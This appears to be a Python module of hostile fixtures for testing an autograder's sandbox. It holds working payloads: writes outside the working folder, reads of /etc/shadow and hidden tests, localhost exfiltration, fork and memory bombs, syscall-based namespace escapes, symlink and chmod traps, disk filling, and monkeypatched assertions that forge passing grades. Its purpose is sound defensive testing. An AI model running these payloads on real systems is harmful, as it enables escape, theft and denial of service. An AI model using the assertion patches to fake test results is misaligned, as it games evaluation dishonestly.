"""What the hostile fixtures hand in: the code each one adds to an honest submission (an escape,
a bomb, a forged verdict, ...). `make_hostile.py` puts them into notebooks and says what grading
must make of them."""
from __future__ import annotations

from autograder.sandbox.policy import Limits

LISTEN_PORTS = range(47600, 47620)
REPORT = "hostile-result"  # the prefix of the line on which a fixture prints a JSON file it wrote
FROZEN_TIMESTAMP = "2999-01-01 00:00:00.000000 UTC"  # what timestamp_freeze writes


WRONG_FORWARD = "return dec_inp  # skips the whole block"

ESCAPE = r'''
# Try to write outside the working folder: the course's solutions, gradebook, other students,
# the package source and home. Every success is recorded in escape.json.
import json, os
from pathlib import Path
import encdec
here = Path.cwd()
course = here.parents[3]  # grading/autograded/<student>/<assignment> -> course root
targets = [course / "solutions" / "decoder_block" / "pwned.txt",
           course / "solutions" / "decoder_block" / "decoder_block.ipynb",
           course / "grading" / "gradebook.db",
           here.parent.parent / "other_student" / "pwned.txt",
           Path(encdec.__file__).parent / "model.py",
           Path(encdec.__file__).parents[1] / "solutions" / "pwned.txt",
           Path("/root/pwned.txt"), Path(os.path.expanduser("~root")) / ".bashrc",
           Path("/etc/pwned.txt"), Path("/usr/pwned.txt")]
escaped = []
for t in targets:
    try:
        with open(t, "a") as f:
            f.write("pwned")
        escaped.append(str(t))
    except OSError as err:
        print(f"blocked: {t}: {err.strerror}")
Path("escape.json").write_text(json.dumps(escaped))
'''

STEAL = r'''
# Try to read hidden material: the instructor's notebook (hidden tests), the gradebook, the
# grader's code, other students' work, home. Every success is recorded in stolen.json.
import json, os
from pathlib import Path
import encdec
here = Path.cwd()
course = here.parents[3]
repo = Path(encdec.__file__).parents[1]
candidates = [here / "decoder_block.ipynb",  # the notebook being graded: hidden tests restored
              course / "solutions" / "decoder_block" / "decoder_block.ipynb",
              repo / "solutions" / "decoder_block" / "decoder_block.ipynb",
              course / "grading" / "gradebook.db", repo / "grading" / "gradebook.db",
              course / "autograder" / "trusted.py", repo / "autograder" / "trusted.py",
              course / "nbgrader_config.py", repo / "nbgrader_config.py",
              here.parent.parent / "pass_all" / "decoder_block" / "decoder_block.ipynb",
              Path("/root/.bashrc"), Path("/etc/shadow")]
stolen = []
for c in candidates:
    try:
        stolen.append([str(c), len(Path(c).read_bytes())])
    except OSError as err:
        print(f"unreadable: {c}: {err.strerror}")
for d in [here, course, repo, Path("/root"), here.parent.parent]:
    try:
        print(d, sorted(os.listdir(d)))
    except OSError as err:
        print(f"unlistable: {d}: {err.strerror}")
Path("stolen.json").write_text(json.dumps(stolen))
'''

NETWORK = f'''
# Try to reach a listener that the grader's test runs on 127.0.0.1 outside the sandbox.
import json, socket
from pathlib import Path
reached = []
for port in {list(LISTEN_PORTS)!r}:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
            s.sendall(b"exfiltrated")
            reached.append(port)
    except OSError:
        pass
print("reached:", reached)
Path("network.json").write_text(json.dumps(reached))
'''

FORK_BOMB = '''
# Fork until the process limit says no; every child sleeps to hold its slot.
import os, time
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as err:
    print(f"fork refused after {children} children: {err}")
'''

PATCH_ASSERTS = '''
# Make every comparison succeed, then print a fake verdict.
import builtins, numpy, torch
torch.testing.assert_close = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
print("passed (checked by the grader): every check")
'''

PATCH_CHECKS = '''
# Replace the check library's entry point: nothing is run, everything "passes".
from encdec.grading import checks
checks.run = lambda check_id, impl, *a, **k: print(f"passed (checked by the grader): {check_id}")
'''

STORED = '''import numpy as np
stored = np.load("reference/decoder_block.output.npz")["expected/out"]  # the visible test's expected output
return torch.from_numpy(stored.copy())'''

BIG_OUTPUT = '''
# About 20 MB of output.
for i in range(200_000):
    print(f"{i:08d} " + "x" * 91)
'''

SIGINT_LOOP = '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''

MEMORY_BOMB = '''hoard = []
while True:
    hoard.append(b"\\x01" * (256 * 2**20))  # touched pages: real memory, 256 MiB at a time'''

# The fixtures below are caught by the kernel's cgroup and seccomp filter (sandbox/cgroups.py,
# sandbox/seccomp.py), not by the per-process limits.

MEMFD_HOARD = '''import os
hoard, chunk = [], b"\\x01" * (16 * 2**20)
for i in range(72):  # 4.5 GiB in memfds of 64 MiB (the file-size limit): written, never mapped,
    fd = os.memfd_create(f"hoard{i}")  # so no address space is used
    for _ in range(4):
        os.write(fd, chunk)
    hoard.append(fd)
return dec_inp  # reached only where nothing caps the memory of the kernel as a whole'''

CHILDREN_MEMORY = '''
# Two fresh children (each far below its own address-space limit) touch 2.25 GiB each, together
# more than the kernel's memory; children.json says whether both ever held it at once.
import json, subprocess, sys
from pathlib import Path
CHILD = "import time\\nhold = [b'\\\\x01' * (256 * 2**20) for _ in range(9)]\\ntime.sleep(1)"
children = [subprocess.Popen([sys.executable, "-c", CHILD]) for _ in range(2)]
codes = [c.wait() for c in children]
print("children exited with", codes)
Path("children.json").write_text(json.dumps({"both_held": codes == [0, 0]}))
'''

CPU_HOG = '''
# Four children spin for 4 s of wall time each; cpu.json: how many CPUs they got together.
import json, resource, subprocess, sys, time
from pathlib import Path
SPIN = "import time\\nend = time.monotonic() + 4\\nwhile time.monotonic() < end:\\n    pass"
start = time.monotonic()
for child in [subprocess.Popen([sys.executable, "-c", SPIN]) for _ in range(4)]:
    child.wait()
wall = time.monotonic() - start
used = resource.getrusage(resource.RUSAGE_CHILDREN)
cpus = (used.ru_utime + used.ru_stime) / wall
print(f"4 spinning children used {cpus:.2f} CPUs over {wall:.1f} s")
Path("cpu.json").write_text(json.dumps({"cpus_used": round(cpus, 2)}))
'''

# Raw system calls, with the numbers of the machine the kernel runs on.
SYSCALLS = '''
import ctypes, errno, json, os, platform
from pathlib import Path
NR = {"x86_64": dict(add_key=248, request_key=249, keyctl=250, unshare=272, clone=56, io_uring_setup=425),
      "aarch64": dict(add_key=217, request_key=218, keyctl=219, unshare=97, clone=220, io_uring_setup=425),
      }[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    """The call's result, or the name of its errno."""
    ctypes.set_errno(0)
    ret = libc.syscall(NR[name], *args)
    return errno.errorcode.get(ctypes.get_errno(), "?") if ret == -1 else ret
KEY_SPEC_USER_KEYRING, KEYCTL_SEARCH = ctypes.c_int(-4), 10  # the uid's keyring: outlives the kernel
print("kernel uid", os.getuid())
'''

KEYRING_WRITE = SYSCALLS + '''
secret = b"answers of the previous student"
stored = call("add_key", b"user", b"encdec-answers", secret, len(secret), KEY_SPEC_USER_KEYRING)
Path("keyring.json").write_text(json.dumps({"add_key": "stored" if isinstance(stored, int) else stored}))
'''

KEYRING_READ = SYSCALLS + '''
found = call("keyctl", KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, b"user", b"encdec-answers", 0)
asked = call("request_key", b"user", b"encdec-answers", None, 0)
Path("keyring.json").write_text(json.dumps({
    "keyctl_search": "found" if isinstance(found, int) else found,
    "request_key": "found" if isinstance(asked, int) else asked}))
'''

USERNS_ESCAPE = SYSCALLS + '''
CLONE_NEWUSER, SIGCHLD = 0x10000000, 17
attempts = {"clone": call("clone", CLONE_NEWUSER | SIGCHLD, None, None, None, None)}  # fork into a user namespace
if attempts["clone"] == 0:
    os._exit(0)
attempts["unshare"] = call("unshare", CLONE_NEWUSER)  # after clone: from inside one, clone would fail anyway
attempts["io_uring_setup"] = call("io_uring_setup", 8, ctypes.create_string_buffer(120))
attempts = {k: v if isinstance(v, str) else "allowed" for k, v in attempts.items()}
print(attempts)
Path("userns.json").write_text(json.dumps(attempts))
'''


# The fixtures below leave behind what the root grader must clean up or read safely
# (sandbox/safefs.py); the kernel finds its socket folder next to its connection file.

DEEP_TREE = '''
# Folder trees 1,500 levels deep wherever the kernel can write: its working folder, its /tmp and
# its socket folder. A recursive walk or removal of any of them raises RecursionError. (As root
# the socket folder is a tmpfs of 64 files: the tree stops there, and its tmpfs is unmounted.)
import errno, json, os
from pathlib import Path
from ipykernel.connect import get_connection_file
def deep(where, levels=1500):
    fd = os.open(where, os.O_RDONLY | os.O_DIRECTORY)
    made = 0
    try:
        for _ in range(levels):
            os.mkdir("d", dir_fd=fd)
            child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd, made = child, made + 1
        os.close(os.open("leaf.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    except OSError as err:
        if err.errno != errno.ENOSPC:
            raise
    finally:
        os.close(fd)
    return made
made = {}
for name, where in [("working folder", "."), ("/tmp", "/tmp")]:
    try:
        made[name] = deep(where)
    except OSError as err:
        made[name] = err.strerror
Path("deep_tree.json").write_text(json.dumps(made))
Path("deep_socket.json").write_text(json.dumps({"levels": deep(os.path.dirname(get_connection_file()))}))
'''


def log_link(target: str) -> str:
    """Swap the kernel's log (in its socket folder) for a link to `target` (a Python expression)."""
    return f'''
# The launcher (root) shows the end of the kernel's log when the kernel fails: make the log a
# link to {target}, then fail (the next cell).
import os
from pathlib import Path
from ipykernel.connect import get_connection_file
course = Path.cwd().parents[3]  # grading/autograded/<student>/<assignment> -> course root
log = Path(get_connection_file()).parent / "kernel.log"
log.unlink()
log.symlink_to({target})
print("kernel.log now links to", os.readlink(log))
'''


TIMESTAMP_FREEZE = f'''
# What would matter if the kernel's folder were copied back into nbgrader's: a timestamp far in
# the future (a plain `nbgrader autograde` skips a resubmission older than the graded copy's
# timestamp), 240 MiB of files and 3,000 small ones (its tmpfs holds 4,096) (copied again into feedback/).
import json, os
from pathlib import Path
Path("timestamp.txt").write_text("{FROZEN_TIMESTAMP}\\n")
for i in range(4):
    with open(f"big{{i}}.bin", "wb") as f:
        f.truncate(60 * 2**20)  # sparse: 60 MiB each, under the file-size limit
Path("many").mkdir()
for i in range(3000):
    Path("many", f"f{{i}}.txt").write_text("x")
Path("freeze.json").write_text(json.dumps({{"timestamp": Path("timestamp.txt").read_text().strip(),
                                           "files": len(os.listdir("many")) + 5}}))
'''

CHMOD_TRAP = '''
# Folders without any permission left (mode 000, files inside), and a file made immutable if the
# kernel may (it may not: no CAP_LINUX_IMMUTABLE), in the working and the socket folder (the next
# cell leaves the working folder itself mode 000). Whoever cleans up must remove all of it.
import fcntl, json, os, struct
from pathlib import Path
from ipykernel.connect import get_connection_file
def trap(where):
    top = Path(where) / "trap"
    (top / "inner").mkdir(parents=True)
    for folder in (top, top / "inner"):
        for i in range(3):
            (folder / f"f{i}.txt").write_text("x")
    fd = os.open(top / "frozen.txt", os.O_WRONLY | os.O_CREAT, 0o644)
    try:
        flags = struct.unpack("i4x", fcntl.ioctl(fd, 0x80086601, bytes(8)))[0]  # FS_IOC_GETFLAGS
        fcntl.ioctl(fd, 0x40086602, struct.pack("i4x", flags | 0x10))  # FS_IOC_SETFLAGS, immutable
        immutable = True
    except OSError:
        immutable = False
    finally:
        os.close(fd)
    os.chmod(top / "inner", 0)
    os.chmod(top, 0)
    return {"trapped": True, "immutable": immutable}
result = {"working folder": trap("."), "socket folder": trap(os.path.dirname(get_connection_file()))}
Path("chmod_trap.json").write_text(json.dumps(result))
'''

SHARED_ROOT = '''
# What a kernel can list of the folders around its own: nbgrader's autograded/ folder (other
# students' names, made there for earlier kernels of the same fork server?) and the folder of
# the socket folders (other kernels'?). Graded late in the batch, after many students.
import json, os
from pathlib import Path
from ipykernel.connect import get_connection_file
me = Path.cwd().parent  # autograded/<student>/<assignment> -> autograded/<student>
sockdir = Path(get_connection_file()).parent
others = [n for n in os.listdir(me.parent) if n != me.name]
others += [n for n in os.listdir(sockdir.parent) if n != sockdir.name]
Path("shared_root.json").write_text(json.dumps({"others": sorted(others)}))
'''


FILL_FOLDER = '''
# Fill the working folder: bytes until the disk says no (4 MiB at a time, files under the
# file-size limit), then empty files until it says no. Bounded here at twice the sandbox's
# limits, so that a grader without them still finishes. Then clean up and go on.
import errno, json, os
from pathlib import Path
Path("fill").mkdir()
def stop_reason(write, most):
    for i in range(most):
        try:
            write(i)
        except OSError as err:
            return errno.errorcode[err.errno], i
    return "not stopped", most
chunk = b"x" * (4 << 20)
def write_bytes(i):
    with open(f"fill/b{{i // 12}}.bin", "ab") as f:  # 48 MiB a file
        f.write(chunk)
bytes_stop, chunks = stop_reason(write_bytes, 2 * {work_mb} // 4)
files_stop, files = stop_reason(lambda i: open(f"fill/f{{i}}", "w").close(), 2 * {work_files})
for name in os.listdir("fill"):
    os.unlink(f"fill/{{name}}")
os.rmdir("fill")
Path("fill.json").write_text(json.dumps({{"bytes": bytes_stop, "files": files_stop}}))
Path("fill_counts.json").write_text(json.dumps({{"mib": chunks * 4, "files": files}}))
'''.format(work_mb=Limits.work_mb, work_files=Limits.work_files)
